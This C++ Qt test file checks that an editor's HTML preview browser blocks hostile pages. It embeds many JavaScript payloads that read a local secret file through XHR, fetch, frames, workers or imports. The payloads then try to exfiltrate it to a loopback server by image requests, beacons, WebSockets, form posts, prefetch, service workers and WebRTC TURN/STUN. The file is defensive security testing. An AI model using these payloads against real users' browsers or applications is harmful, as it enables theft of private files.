// SPDX-License-Identifier: GPL-3.0-or-later
#include "BrowserProbe.h"
#include "LoopbackServer.h"

#include "app/frmMainWin.h"
#include "editor/EditorControl.h"
#include "preview/Form2.h"
#include "preview/PreviewBrowser.h"
#include "support/ScriptedHost.h"
#include "support/TestMain.h"

#include <QApplication>
#include <QImage>
#include <QTemporaryDir>
#include <QTest>
#include <QUdpSocket>

using namespace BrowserProbe;

// Pages that try to read the user's files and send them out, in the real browser engine. Each
// hostile page reports what it read in its title ("done:<text>"); a web server on the loopback
// address stands for the attacker and must hear nothing.
class tst_PreviewSafety : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void hostilePageLearnsAndSendsNothing_data();
    void hostilePageLearnsAndSendsNothing();
    void ownFilesShowAndTheNetworkStaysShut();
    void onlyTheUserLeavesThePage_data();
    void onlyTheUserLeavesThePage();
    void bothPreviewsAreGuarded();

private:
    QString fileUrl(const QString &name) const { return QStringLiteral("file://") + m_dir.filePath(name); }
    QString writePage(const QString &name, const QString &html) const;
    QString hostilePage(const QString &attack) const;

    QTemporaryDir m_dir;
};

namespace {

const QString secret = QStringLiteral("TOPSECRET-4242");
constexpr QSize pixelSize(37, 23);

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

// Time for late requests (timers, ICE gathering, prefetches) after a page reports.
void settle()
{
    QTest::qWait(700);
}

} // namespace

void tst_PreviewSafety::initTestCase()
{
    QVERIFY(m_dir.isValid());
    writeFile(m_dir.filePath(QStringLiteral("secret.txt")), secret.toLatin1());
    writeFile(m_dir.filePath(QStringLiteral("secret.js")), "var leaked = '" + secret.toLatin1() + "';");
    writeFile(m_dir.filePath(QStringLiteral("local.css")), "#box { display: block; width: 77px; }");
    writeFile(m_dir.filePath(QStringLiteral("local.js")), "window.localRan = 1;");
    writeFile(m_dir.filePath(QStringLiteral("other.html")), "<p>other page</p>");
    QImage pixel(pixelSize, QImage::Format_RGB32);
    pixel.fill(Qt::red);
    QVERIFY(pixel.save(m_dir.filePath(QStringLiteral("pixel.png"))));
}

QString tst_PreviewSafety::writePage(const QString &name, const QString &html) const
{
    const QString path = m_dir.filePath(name);
    writeFile(path, html.toUtf8());
    return path;
}

QString tst_PreviewSafety::hostilePage(const QString &attack) const
{
    return QStringLiteral("<!DOCTYPE html><html><head><meta charset='utf-8'><title>running</title></head><body>\n"
                          "<script>\n"
                          "var S = '%1', F = '%2', H = 'http://127.0.0.1:' + PORT;\n"
                          "function done(r) { document.title = 'done:' + (r || ''); }\n"
                          "%3\n"
                          "</script></body></html>\n")
        .arg(fileUrl(QStringLiteral("secret.txt")), fileUrl(QString()), attack);
}

void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
{
    QTest::addColumn<QString>("attack");

    QTest::newRow("XHR of a file, sent as an image")
        << "var r = ''; try { var x = new XMLHttpRequest(); x.open('GET', S, false); x.send(); r = x.responseText; } catch (e) {}"
           "new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r);";
    QTest::newRow("fetch of a file, sent by fetch")
        << "fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; }).then(function (r) {"
           "  fetch(H + '/fetch?d=' + encodeURIComponent(r), {mode: 'no-cors'}).catch(function () {}); done(r); });";
    QTest::newRow("frame read back, sent by a style's url()")
        << "var f = document.createElement('iframe'); f.src = S; f.onload = function () { var r = '';"
           "  try { r = f.contentDocument.body.innerText; } catch (e) {}"
           "  document.body.style.backgroundImage = 'url(' + H + '/css?d=' + encodeURIComponent(r) + ')'; done(r); };"
           "document.body.appendChild(f);";
    QTest::newRow("object read back, sent as a beacon")
        << "var o = document.createElement('object'); o.data = S; o.type = 'text/plain'; document.body.appendChild(o);"
           "setTimeout(function () { var r = ''; try { r = o.contentDocument.body.innerText; } catch (e) {}"
           "  try { navigator.sendBeacon(H + '/beacon', r || 'x'); } catch (e) {} done(r); }, 500);";
    QTest::newRow("embed read back, sent over a WebSocket")
        << "var m = document.createElement('embed'); m.src = S; document.body.appendChild(m);"
           "setTimeout(function () { var r = ''; try { r = m.getSVGDocument().documentElement.textContent; } catch (e) {}"
           "  try { new WebSocket('ws://127.0.0.1:' + PORT + '/ws?d=' + encodeURIComponent(r)); } catch (e) {} done(r); }, 500);";
    QTest::newRow("window of a file read back, server opened in a window")
        << "var w = window.open(S); setTimeout(function () { var r = ''; try { r = w.document.body.innerText; } catch (e) {}"
           "  window.open(H + '/open?d=' + encodeURIComponent(r)); done(r); }, 500);";
    QTest::newRow("navigation to a file") << "done(''); location = S;";
    QTest::newRow("navigation to the server") << "done(''); location = H + '/nav?d=x';";
    QTest::newRow("blob page reads a file, sent by prefetch")
        << "addEventListener('message', function (e) { var l = document.createElement('link'); l.rel = 'prefetch';"
           "  l.href = H + '/prefetch?d=' + encodeURIComponent(e.data); document.head.appendChild(l); done(e.data); });"
           "var src = '<script>var r = \"\"; try { var x = new XMLHttpRequest(); x.open(\"GET\", \"' + S + '\", false); x.send();"
           "  r = x.responseText; } catch (e) {} parent.postMessage(r, \"*\");<' + '/script>';"
           "var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([src], {type: 'text/html'}));"
           "document.body.appendChild(f);";
    QTest::newRow("data page fetches a file, sent by a script element")
        << "addEventListener('message', function (e) { var s = document.createElement('script');"
           "  s.src = H + '/script?d=' + encodeURIComponent(e.data); document.head.appendChild(s); done(e.data); });"
           "var src = '<script>fetch(\"' + S + '\").then(function (a) { return a.text(); }).catch(function () { return \"\"; })"
           "  .then(function (r) { parent.postMessage(r, \"*\"); });<' + '/script>';"
           "var f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(src);"
           "document.body.appendChild(f);";
    QTest::newRow("worker fetches a file and the server")
        << "var code = 'fetch(\"' + S + '\").then(function (a) { return a.text(); }).catch(function () { return \"\"; })"
           "  .then(function (r) { fetch(\"' + H + '/worker?d=\" + r).catch(function () {}); postMessage(r); });';"
           "try { var w = new Worker(URL.createObjectURL(new Blob([code])));"
           "  w.onmessage = function (e) { done(e.data); }; w.onerror = function () { done(''); }; } catch (e) { done(''); }";
    QTest::newRow("service worker from the server")
        << "if (navigator.serviceWorker) navigator.serviceWorker.register(H + '/sw.js').then(function () { done('registered'); },"
           "  function () { done(''); }); else done('');";
    QTest::newRow("form posted to the server")
        << "var f = document.createElement('form'); f.method = 'POST'; f.action = H + '/form';"
           "var i = document.createElement('input'); i.name = 'd'; i.value = 'x'; f.appendChild(i);"
           "document.body.appendChild(f); done(''); f.submit();";
    QTest::newRow("form posted into a frame")
        << "var t = document.createElement('iframe'); t.name = 'sink'; document.body.appendChild(t);"
           "var f = document.createElement('form'); f.method = 'POST'; f.target = 'sink'; f.action = H + '/form';"
           "var i = document.createElement('input'); i.name = 'd'; i.value = 'x'; f.appendChild(i);"
           "document.body.appendChild(f); f.submit(); done('');";
    QTest::newRow("event stream") << "try { new EventSource(H + '/events?d=x'); } catch (e) {} done('');";
    QTest::newRow("prefetch, preload, preconnect, DNS prefetch and ping")
        << "['prefetch', 'preload', 'preconnect', 'dns-prefetch'].forEach(function (rel) {"
           "  var l = document.createElement('link'); l.rel = rel; l.href = H + '/' + rel; l.as = 'image';"
           "  document.head.appendChild(l); });"
           "var a = document.createElement('a'); a.href = '#here'; a.ping = H + '/ping'; document.body.appendChild(a); a.click();"
           "done('');";
    QTest::newRow("refresh to the server")
        << "var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + H + '/refresh';"
           "document.head.appendChild(m); done('');";
    QTest::newRow("style sheet import from the server")
        << "var s = document.createElement('style'); s.textContent = '@import url(' + H + '/import.css?d=x);';"
           "document.head.appendChild(s); done('');";
    QTest::newRow("module import from the server")
        << "import(H + '/module.js?d=x').then(function () { done('imported'); }, function () { done(''); });";
    QTest::newRow("peer connection to a TURN server")
        << "try { var pc = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:' + PORT + '?transport=tcp',"
           "  username: 'd', credential: 'x'}]}); pc.createDataChannel('c');"
           "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () { done(''); },"
           "  function () { done(''); }); } catch (e) { done(''); }";
    // A frame's first empty document runs none of the profile's scripts, so the constructor is
    // still there; its TURN and STUN traffic must still get nowhere.
    QTest::newRow("peer connection from a fresh frame to TURN and STUN servers")
        << "var f = document.createElement('iframe'); document.body.appendChild(f); var r = 'none';"
           "try { var pc = new f.contentWindow.RTCPeerConnection({iceServers: ["
           "  {urls: ['turn:127.0.0.1:' + PORT + '?transport=tcp', 'turn:127.0.0.1:' + PORT + '?transport=udp'],"
           "   username: 'd', credential: 'x'}, {urls: 'stun:127.0.0.1:' + PORT}]}); r = 'built';"
           "  pc.createDataChannel('c'); pc.onicegatheringstatechange = function () {"
           "    if (pc.iceGatheringState === 'complete') done(r); };"
           "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
           "  setTimeout(function () { done(r); }, 3000); } catch (e) { done(r); }";
    QTest::newRow("HTML import of a file")
        << "var l = document.createElement('link'); l.rel = 'import'; l.href = S; document.head.appendChild(l);"
           "setTimeout(function () { var r = ''; try { r = l.import.body.innerText; } catch (e) {}"
           "  new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); }, 300);";
    // The page's own scripts run and may read what a local script defines; it still goes nowhere.
    QTest::newRow("local script's value sent as an image")
        << "var s = document.createElement('script'); s.src = F + 'secret.js';"
           "s.onload = function () { new Image().src = H + '/img?d=' + leaked; done('ran'); };"
           "s.onerror = function () { done(''); }; document.head.appendChild(s);";
}

void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
{
    QFETCH(QString, attack);

    LoopbackServer server;
    QVERIFY(server.isListening());
    // STUN and TURN over UDP would come here.
    QUdpSocket datagrams;
    QVERIFY(datagrams.bind(QHostAddress::LocalHost, server.port()));
    const QString html = hostilePage(attack).replace(QLatin1String("PORT"), QString::number(server.port()));
    const QString path = writePage(QStringLiteral("hostile.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    const QWidgetList windows = QApplication::topLevelWidgets();
    view.showFile(path, html);

    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
    settle();
    QVERIFY2(!view.title().contains(secret), qPrintable(view.title()));
    QCOMPARE(server.requests(), QStringList());
    QCOMPARE(server.connections(), 0);
    QVERIFY(!datagrams.hasPendingDatagrams());
    // A script may still move within its own page (a link to "#here").
    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), QUrl::fromLocalFile(path));
    QCOMPARE(QApplication::topLevelWidgets(), windows);
}

void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    server.serve(QStringLiteral("/cdn.css"), "text/css", "#cdn { display: block; width: 123px; }");
    const QString html = QStringLiteral("<!DOCTYPE html><html><head>"
                                        "<link rel='stylesheet' href='local.css'>"
                                        "<link rel='stylesheet' href='%1'>"
                                        "<script src='local.js'></script></head><body>"
                                        "<img id='relative' src='pixel.png'><img id='absolute' src='%2'>"
                                        "<span id='box'></span><span id='cdn'></span></body></html>")
                             .arg(server.address(QStringLiteral("/cdn.css")), fileUrl(QStringLiteral("pixel.png")));
    const QString path = writePage(QStringLiteral("own.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    view.showFile(path, html);
    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));

    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('relative').naturalWidth")).toInt(),
                              pixelSize.width(), timeout);
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('absolute').naturalWidth")).toInt(), pixelSize.width());
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('box').offsetWidth")).toInt(), 77);
    QCOMPARE(evaluate(&view, QStringLiteral("window.localRan")).toInt(), 1);
    // A style sheet on the network, even one the page writes out, stays unloaded.
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('cdn').offsetWidth")).toInt(), 0);
    QCOMPARE(server.requests(), QStringList());
}

void tst_PreviewSafety::onlyTheUserLeavesThePage_data()
{
    QTest::addColumn<QString>("body");
    QTest::addColumn<bool>("userClicks");
    QTest::addColumn<QString>("lands");
    QTest::addColumn<QStringList>("requests");

    // The link fills the top left corner of the view, where the user clicks.
    const QString link =
        QStringLiteral("<a id='a' %1 style='position:absolute; left:0; top:0; width:300px; height:60px'>link</a>");
    QTest::newRow("script opens a window") << QStringLiteral("<script>window.open('other.html');</script>") << false
                                           << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("script clicks a link") << link.arg(QStringLiteral("href='other.html'")) +
                                                 QStringLiteral("<script>document.getElementById('a').click();</script>")
                                          << false << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("user clicks a link to a new window")
        << link.arg(QStringLiteral("target='_blank' href='other.html'")) << true << QStringLiteral("other.html") << QStringList();
    QTest::newRow("user clicks a written network link")
        << link.arg(QStringLiteral("href='SERVER/page'")) << true << QStringLiteral("SERVER/page")
        << QStringList{QStringLiteral("GET /page HTTP/1.1")};
    // The server sends the view on to a host name the page never wrote.
    QTest::newRow("user clicks a written network link that redirects")
        << link.arg(QStringLiteral("href='SERVER/moved'")) << true << QStringLiteral("NAMED/page")
        << QStringList{QStringLiteral("GET /moved HTTP/1.1"), QStringLiteral("GET /page HTTP/1.1")};
    QTest::newRow("user clicks a link a script rewrote")
        << link.arg(QStringLiteral("href='SERVER/page'")) +
               QStringLiteral("<script>document.getElementById('a').href += '?d=' + document.title;</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("user clicks a window a script opens")
        << link.arg(QStringLiteral("href='#'")) +
               QStringLiteral("<script>document.getElementById('a').onclick = function (e) { e.preventDefault();"
                              "window.open('SERVER/page?d=' + document.title); };</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
}

void tst_PreviewSafety::onlyTheUserLeavesThePage()
{
    QFETCH(QString, body);
    QFETCH(bool, userClicks);
    QFETCH(QString, lands);
    QFETCH(QStringList, requests);

    LoopbackServer server;
    QVERIFY(server.isListening());
    server.serve(QStringLiteral("/page"), "text/html", "<p>remote page</p>");
    const QString serverRoot = server.address(QString());
    const QString namedRoot = QStringLiteral("http://localhost:%1").arg(server.port());
    server.redirect(QStringLiteral("/moved"), (namedRoot + QStringLiteral("/page")).toLatin1());
    const QString html = QStringLiteral("<!DOCTYPE html><html><head><title>t</title></head><body>%1</body></html>")
                             .arg(body)
                             .replace(QLatin1String("SERVER"), serverRoot);
    const QString path = writePage(QStringLiteral("hostile.html"), html);
    lands.replace(QLatin1String("SERVER"), serverRoot).replace(QLatin1String("NAMED"), namedRoot);
    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : QUrl::fromLocalFile(m_dir.filePath(lands));

    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    const QWidgetList windows = QApplication::topLevelWidgets();
    view.showFile(path, html);
    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
    if (userClicks) {
        QTRY_VERIFY(view.focusProxy());
        // The page's layout must be in place before the click lands on the link.
        QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300,
                                  timeout);
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    }
    if (expected != view.url())
        QTRY_COMPARE_WITH_TIMEOUT(view.url(), expected, timeout);
    settle();
    QCOMPARE(view.url(), expected);
    QCOMPARE(server.requests(), requests);
    QCOMPARE(QApplication::topLevelWidgets(), windows);
}

void tst_PreviewSafety::bothPreviewsAreGuarded()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    const QString html =
        hostilePage(QStringLiteral("var r = ''; try { var x = new XMLHttpRequest(); x.open('GET', S, false); x.send();"
                                   "r = x.responseText; } catch (e) {}"
                                   "new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r);"))
            .replace(QLatin1String("PORT"), QString::number(server.port()));
    ScriptedHost host;
    frmMainWin w(host);
    w.Form_Load();
    w.show();
    w.r1().setText(html);
    w.RefreshQuickPreview();
    w.mnuPreview_Click();

    auto *qprevbr = w.findChild<PreviewBrowser *>(QStringLiteral("qprevbr"));
    auto *form = w.findChild<Form2 *>();
    QVERIFY(qprevbr);
    QVERIFY(form);
    for (PreviewBrowser *view : {qprevbr, form->w1()}) {
        QTRY_VERIFY_WITH_TIMEOUT(view->title().startsWith(QLatin1String("done:")), timeout);
        QCOMPARE(view->title(), QStringLiteral("done:"));
    }
    settle();
    QCOMPARE(server.connections(), 0);
}

ZORVANE_TEST(tst_PreviewSafety)
#include "tst_PreviewSafety.moc"
